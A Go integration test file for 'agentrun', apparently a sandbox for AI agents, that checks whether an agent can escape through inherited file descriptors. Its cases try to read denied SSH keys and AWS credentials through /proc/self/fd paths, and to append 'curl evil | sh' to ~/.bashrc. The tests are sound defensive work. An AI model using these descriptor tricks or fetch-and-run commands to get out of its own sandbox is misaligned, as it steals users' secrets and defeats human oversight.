package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Inherited descriptors: what agentrun's caller opened reaches its file whatever the agent's
// view hides. A directory, or a file the policy denies, as a standard stream stops the launch;
// no other descriptor reaches the agent.
func init() {
	const refused = "agentrun's standard input"
	escapeAttempts = append(escapeAttempts,
		escapeAttempt{
			class: "fd", name: "stdin the denied ~/.ssh directory",
			stdin: ".ssh", attack: "cat /proc/self/fd/0/id_ed25519", want: refused,
			controlStdin: "notes.txt", control: "cat", controlWant: "readable notes",
		},
		escapeAttempt{
			class: "fd", name: "stdin a directory above a denied one",
			stdin: "project", attack: "cat /proc/self/fd/0/../.aws/credentials", want: "directory",
			controlStdin: "project/README.md", control: "cat", controlWant: "hello",
		},
		escapeAttempt{
			class: "fd", name: "stdin a denied file",
			stdin: ".aws/credentials", attack: "cat", want: "which the profile denies",
			controlStdin: ".ssh/id_ed25519.pub", control: "cat", controlWant: "ssh-ed25519",
		},
		escapeAttempt{
			class: "fd", name: "stdin the denied key itself",
			stdin: ".ssh/id_ed25519", attack: "cat", want: "which the profile denies",
			controlStdin: "notes.txt", control: "cat", controlWant: "readable notes",
		},
		escapeAttempt{
			class: "fd", name: "a denied directory as descriptor 3",
			extraFile: ".ssh", attack: "cat /proc/self/fd/3/id_ed25519", want: "No such file",
			// Reopening a descriptor by its /proc link checks the file's permissions again:
			// the twin's file is world-readable, as the agent (uid 1879113728 when agentrun
			// runs as root) could not reopen root's 0600 notes.
			setup:        func(t *testing.T, r *runner) { _ = os.Chmod(filepath.Join(r.home, "notes.txt"), 0o644) },
			controlStdin: "notes.txt", control: "cat /proc/self/fd/0", controlWant: "readable notes",
		},
	)
}

// TestInheritedDescriptors: the agent holds its three standard streams and nothing more (not
// the stage's lifeline, nor what agentrun itself inherited), and output redirected into a
// workspace file arrives there.
func TestInheritedDescriptors(t *testing.T) {
	for _, unprivileged := range []bool{false, true} {
		r := newRunner(t, unprivileged)
		t.Run(r.name, func(t *testing.T) {
			notes, err := os.Open(filepath.Join(r.home, "notes.txt"))
			if err != nil {
				t.Fatal(err)
			}
			defer notes.Close()
			res := r.runFiles(t, nil, []*os.File{notes}, "--profile", r.profile, "--network", "none", "--", "sh", "-c", "ls /proc/$$/fd")
			if got := strings.Fields(res.stdout); res.code != 0 || strings.Join(got, " ") != "0 1 2" {
				t.Errorf("the agent's descriptors: %q, want 0 1 2: %s", got, res)
			}

			out := filepath.Join(r.ws, "out.txt")
			f, err := os.OpenFile(out, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if unprivileged {
				if err := f.Chown(r.uid, r.gid); err != nil {
					t.Fatal(err)
				}
			}
			cmd := r.command(t.Context(), "--profile", r.profile, "--network", "none", "--", "echo", "into the workspace")
			var stderr strings.Builder
			cmd.Stdout, cmd.Stderr = f, &stderr
			if err := cmd.Run(); err != nil {
				t.Fatalf("stdout into a workspace file: %v: %s", err, stderr.String())
			}
			if b, _ := os.ReadFile(out); string(b) != "into the workspace\n" {
				t.Errorf("the workspace file holds %q", b)
			}

			// Its twin the other way: output appended to a protected start-up file would let
			// the agent write what the mounts keep read-only. The launch stops, nothing written.
			rc := filepath.Join(r.home, ".bashrc")
			before, _ := os.ReadFile(rc)
			g, err := os.OpenFile(rc, os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				t.Fatal(err)
			}
			defer g.Close()
			cmd = r.command(t.Context(), "--profile", r.profile, "--network", "none", "--", "echo", "curl evil | sh")
			stderr.Reset()
			cmd.Stdout, cmd.Stderr = g, &stderr
			if err := cmd.Run(); err == nil || !strings.Contains(stderr.String(), "which the profile protects") {
				t.Errorf("stdout into ~/.bashrc: want the launch refused naming the protection, got %v: %s", err, stderr.String())
			}
			if after, _ := os.ReadFile(rc); string(after) != string(before) {
				t.Errorf("~/.bashrc changed: %q", after)
			}
		})
	}
}
